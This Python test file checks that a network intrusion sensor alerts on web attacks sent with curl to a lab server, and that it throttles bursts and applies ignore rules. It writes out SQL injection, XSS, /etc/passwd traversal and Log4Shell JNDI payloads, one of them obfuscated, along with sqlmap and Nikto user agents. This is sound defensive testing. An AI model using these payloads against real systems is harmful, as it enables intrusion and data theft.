#!/usr/bin/env python3
"""End to end: curl sends web attacks (SQL injection, XSS, directory traversal,
Log4Shell in the URL and in the User-Agent), a scanner's User-Agent, risky
downloads and a burst of path probes to an HTTP server in the other namespace;
spoor on the server's interface alerts for each, throttles a burst of one
source and trail into a summary, and an ignore rule suppresses what it names
(shown with --show-suppressed and counted in stats)."""
import os
import time
import unittest

import lab

UA_LIST = os.path.join(os.environ.get("SPOOR_SHARED", ""), "data", "maltrail", "ua.txt")

# Suppress everything sent to the second server address's port 8080.
IGNORE = """\
rules:
  - name: lab-tests
    dst: 10.200.0.3
    dst_port: 8080
"""


def info(alert):
    return alert["alert"]["metadata"]["info"][0]


class WebAttacks(unittest.TestCase):
    def setUp(self):
        if not os.path.exists(UA_LIST):
            self.fail(f"{UA_LIST} missing: SPOOR_SHARED must point at the shared data")
        self.lab = lab.Lab()
        self.trails = self.lab.write("trails/custom.txt", "10.250.0.1\n")
        self.ignore = self.lab.write("ignore.yaml", IGNORE)
        www = self.lab.path("www")
        self.lab.write("www/index.html", "<title>clean</title>\n")
        self.lab.write("www/files/setup.exe", "MZ\n")
        self.lab.write("www/bins/sora.mips", "\x7fELF\n")
        self.lab.serve(self.lab.server, "python3", "-m", "http.server", "--directory", www, "80")
        self.lab.serve(self.lab.server, "python3", "-m", "http.server", "--bind", "10.200.0.3",
                       "--directory", www, "8080")
        time.sleep(1.0)

    def tearDown(self):
        self.lab.close()

    def curl(self, *args):
        return self.lab.client.run("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                                   "--max-time", "5", *args, check=False).stdout

    def sensor(self, *args):
        # 10.201.0.0/24 is outside the local networks: downloads from 10.201.0.5 are external.
        return lab.Sensor(self.lab, self.lab.server, "-i", "vs", "--trails", self.trails,
                          "--local-net", "10.200.0.0/24", "--suspicious-ua", UA_LIST,
                          "--ignore-rules", self.ignore, "--show-suppressed", *args)

    def test_attacks_downloads_scan_throttle_and_ignore(self):
        sensor = self.sensor("--throttle-window", "3")
        base = "http://10.200.0.2"
        attacks = {
            "potential sql injection (suspicious)":
                base + "/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            "potential xss injection (suspicious)":
                base + "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "potential directory traversal (suspicious)": base + "/static/../../../../etc/passwd",
            "potential remote code execution (suspicious)":
                base + "/?x=%24%7Bjndi%3Aldap%3A%2F%2F10.200.0.1%3A1389%2Fa%7D",
        }
        for url in attacks.values():
            self.curl("--path-as-is", url)
        # Log4Shell in the User-Agent, obfuscated; a scanner's User-Agent.
        self.curl("-A", "${${lower:j}ndi:ldap://10.200.0.1:1389/x}", base + "/ua-test")
        self.curl("-A", "sqlmap/1.7.2#stable (https://sqlmap.org)", base + "/index.html")
        # Risky downloads from the external host, and from the local one (silent).
        self.curl("http://10.201.0.5/files/setup.exe")
        self.curl("http://10.201.0.5/bins/sora.mips")
        self.curl(base + "/files/setup.exe")
        # Path probes: 15 distinct first segments from one client to one server.
        for n in range(15):
            self.curl(f"http://10.200.0.3/probe{n}/x")
        # A burst of one source and trail: 8 requests with one scanner UA (distinct flows).
        for n in range(8):
            self.curl("-A", "Nikto/2.5.0", f"{base}/burst")
        # Suppressed by the rule: a SQL injection to 10.200.0.3:8080.
        self.curl("--path-as-is", "http://10.200.0.3:8080/item.php?id=1%27%20OR%201=1--")

        def done(alerts):
            return any("throttle" in a for a in alerts) and any(
                a["event_type"] == "suppressed" for a in alerts)

        alerts = sensor.alerts_when(done)
        written = [a for a in alerts if a["event_type"] == "alert"]
        infos = [info(a) for a in written]
        for expected in attacks:
            self.assertIn(expected, infos, written)
        log4shell_ua = [(info(a), a["alert"]["metadata"]["matched_field"][0]) for a in written
                        if a.get("http", {}).get("url") == "/ua-test"]
        self.assertIn(("potential remote code execution (suspicious)", "http.http_user_agent"),
                      log4shell_ua, written)
        ua = [a for a in written if a["alert"]["metadata"]["trail_type"][0] == "UA"]
        self.assertIn("sqlmap/1.7.2#stable (https://sqlmap.org)",
                      [a["alert"]["metadata"]["trail"][0] for a in ua])
        downloads = sorted((info(a), a["dest_ip"]) for a in written
                           if a["alert"]["metadata"]["heuristic"][0] == "download")
        self.assertEqual(downloads, [("direct .exe download (suspicious)", "10.201.0.5"),
                                     ("potential iot-malware download (suspicious)",
                                      "10.201.0.5")])
        scans = [a for a in written if a["alert"]["metadata"]["trail_type"][0] == "PATH"]
        self.assertEqual(len(scans), 1, scans)
        self.assertEqual(info(scans[0]), "potential web scanning")
        self.assertEqual(scans[0]["dest_ip"], "10.200.0.3")

        # The burst: three written as they came, five in one summary when the window closed.
        nikto = [a for a in written if a["alert"]["metadata"]["trail"][0] == "Nikto/2.5.0"]
        plain = [a for a in nikto if "throttle" not in a]
        summaries = [a for a in nikto if "throttle" in a]
        self.assertEqual(len(plain), 3, nikto)
        self.assertEqual(len(summaries), 1, nikto)
        self.assertEqual(summaries[0]["throttle"]["count"], 5)

        # The ignore rule: shown as suppressed, never as an alert, and counted.
        suppressed = [a for a in alerts if a["event_type"] == "suppressed"]
        self.assertTrue(suppressed)
        self.assertTrue(all(a["suppressed"]["rule"] == "lab-tests" for a in suppressed))
        self.assertFalse([a for a in written if a["dest_port"] == 8080], written)
        stats = sensor.query("stats")
        self.assertEqual(stats["suppression"]["rules"],
                         [{"name": "lab-tests", "alerts": len(suppressed)}], stats)
        self.assertEqual(sensor.stop(), 0)

    def test_clean_browsing_stays_silent(self):
        sensor = self.sensor()
        for path in ("/index.html", "/?q=select+a+union+rep", "/files/", "/static/app.js?v=1.2"):
            self.curl("-A", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 "
                      "Firefox/128.0", "http://10.200.0.2" + path)
        self.assertEqual(sensor.alerts(settle=2.0), [])


if __name__ == "__main__":
    lab.require_root()
    unittest.main()
